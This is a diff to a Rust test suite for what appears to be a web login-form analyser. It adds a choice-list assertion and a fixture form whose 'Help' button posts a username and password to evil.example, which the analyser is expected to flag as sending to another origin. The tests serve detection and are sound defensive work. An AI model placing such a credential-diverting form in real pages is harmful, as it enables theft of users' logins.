@@ -102,6 +102,10 @@ fn reads_old_markup_with_extra_fields() {
         form.extra[1].choices,
         [("EN".into(), "English".into()), ("DE".into(), "Deutsch".into())]
     );
+    assert_eq!(
+        form.extra[2].choices,
+        [("a".into(), "Realm A".into()), ("b".into(), "Realm B".into())]
+    );
     assert_eq!(form.hidden, ["__VIEWSTATE"]);
     assert!(codes(&page).contains(&"swa_extra_fields"));
 }
@@ -172,6 +176,12 @@ fn finds_forms_that_send_elsewhere() {
     ] {
         assert_eq!(target(other), ["swa_action_other_origin"], "{other:?}");
     }
+    let by_button = "<form method=post><input name=u><input type=password name=p><button>Go</button>\
+                     <button formaction=https://evil.example/>Help</button></form>";
+    assert_eq!(
+        codes(&analysed(by_button, "https://app.example.com/in")),
+        ["swa_action_other_origin"]
+    );
     assert_eq!(target("javascript:void(0)"), ["swa_script_sends"]);
     assert_eq!(target("mailto:x@y.test"), ["swa_action_invalid"]);
 }
